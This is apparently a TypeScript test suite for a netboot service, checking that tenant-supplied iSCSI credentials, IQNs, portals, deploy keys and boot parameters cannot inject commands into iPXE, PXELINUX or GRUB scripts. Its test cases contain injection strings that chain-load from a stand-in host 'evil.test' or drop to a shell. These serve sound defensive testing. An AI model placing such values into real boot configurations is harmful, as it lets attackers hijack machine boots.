/** No text that a tenant writes into a node or a volume becomes a command of a boot program. */
import { randomUUID } from 'node:crypto'
import { eq } from 'drizzle-orm'
import { describe, expect, it } from 'vitest'
import { nodes, volumeConnectors, volumeTargets } from '../../src/db/schema/index.js'
import { InvalidParameterValue } from '../../src/errors.js'
import { resolveBootFile } from '../../src/netboot/boot-files.js'
import type { BootPlan } from '../../src/netboot/plan.js'
import { netbootBed, ramdiskPlan } from './_bed.js'

const bed = netbootBed()
const site = { httpUrl: 'http://192.0.2.1:8080', tftpServer: '192.0.2.1' }
let last = 0x10

/** The script of a new machine, under the name that its boot program requests. */
async function scriptOf(
  plan: Partial<BootPlan>,
  more: { instanceInfo?: Record<string, unknown>; volume?: Record<string, unknown>; iqn?: string },
): Promise<string> {
  const mac = `52:54:00:00:01:${(last++).toString(16)}`
  const { instanceInfo = {}, volume, iqn } = more
  const whole = { ...ramdiskPlan(bed.dir), ...plan }
  const uuid = await bed.machine(mac, whole, { node: { instanceInfo } })
  const { orm } = bed.ctx.db
  const [row] = await orm.select({ id: nodes.id }).from(nodes).where(eq(nodes.uuid, uuid))
  const nodeId = row?.id ?? 0
  if (volume !== undefined) {
    const properties = { target_portal: '192.0.2.9:3260', target_iqn: 'iqn.t', ...volume }
    const fixed = { uuid: randomUUID(), volumeType: 'iscsi', volumeId: 'v', bootIndex: 0 }
    await orm.insert(volumeTargets).values({ ...fixed, nodeId, properties })
  }
  if (iqn !== undefined) {
    const values = { uuid: randomUUID(), nodeId, type: 'iqn', connectorId: iqn }
    await orm.insert(volumeConnectors).values(values)
  }
  const name = mac.replaceAll(':', '-')
  const path = whole.loader === 'pxe' ? `grub.cfg-01-${name}` : `pxelinux.cfg/${name}`
  const file = await resolveBootFile(bed.ctx, { path, site, signal: AbortSignal.timeout(5_000) })
  if (file === null || !Buffer.isBuffer(file.content)) throw new Error(`${path} is not a script`)
  return file.content.toString()
}

describe('volumes in iPXE', () => {
  const fromVolume: Partial<BootPlan> = { entry: 'boot_iscsi', mode: 'instance' }

  it('are attached when their names are ordinary', async () => {
    const volume = { target_lun: 10, auth_username: 'u', auth_password: 'p#ss;w$rd' }
    const script = await scriptOf(fromVolume, { volume, iqn: 'iqn.2026-01.test:me' })
    expect(script).toContain('set initiator-iqn iqn.2026-01.test:me\n')
    expect(script).toContain('set username u\nset password p#ss;w$rd\n')
    expect(script).toContain('sanhook --drive 0x80 iscsi:192.0.2.9::3260:a:iqn.t || goto retry\n')
  })

  it.each([
    ['auth_password', 'x\nchain http://evil.test'],
    ['auth_password', 'x || chain http://evil.test'],
    ['auth_username', 'u\r\nshell'],
    ['auth_username', '${net0/mac}'],
    ['target_iqn', 'iqn.t || chain http://evil.test'],
    ['target_portal', '192.0.2.9\nshell'],
    ['target_iqns', ['iqn.t shell']],
    ['target_portals', ['192.0.2.9:3260', 'x && shell']],
  ])('are refused with %s %j', async (key, value) => {
    const plain = key === 'target_iqns' ? { target_iqn: undefined } : {}
    await expect(scriptOf(fromVolume, { volume: { ...plain, [key]: value } })).rejects.toThrow(
      InvalidParameterValue,
    )
  })

  it('are refused with a connector that is more than a name', async () => {
    await expect(scriptOf(fromVolume, { volume: {}, iqn: 'iqn.x\nshell' })).rejects.toThrow(
      'connector_id of a volume cannot stand in a boot script',
    )
  })
})

describe('the key of the 2015 ramdisk', () => {
  const classic: Partial<BootPlan> = { classic: true, parameters: 'deployment_key=$deploy_key' }

  it.each([
    ['SECRET', 'deployment_key=SECRET'],
    ['x\nchain http://evil.test', 'deployment_key= '],
    ['x || shell', 'deployment_key= '],
    ["$'$&", 'deployment_key= '],
  ])('%j becomes %s', async (key, expected) => {
    const script = await scriptOf(classic, { instanceInfo: { deploy_key: key } })
    expect(script).toContain(expected)
    expect(script).not.toMatch(/evil|shell/)
  })
})

it('gives the shell of GRUB one command, whatever the parameters are', async () => {
  const parameters = 'a=b;reboot c={x} d=$e f|g h&i j>k l="m;n $o" #p'
  const script = await scriptOf({ loader: 'pxe', parameters }, {})
  expect(script).toContain(
    String.raw`a=b\;reboot c=\{x\} d=\$e f\|g h\&i j\>k l="m;n \$o" \#p boot_server`,
  )
})
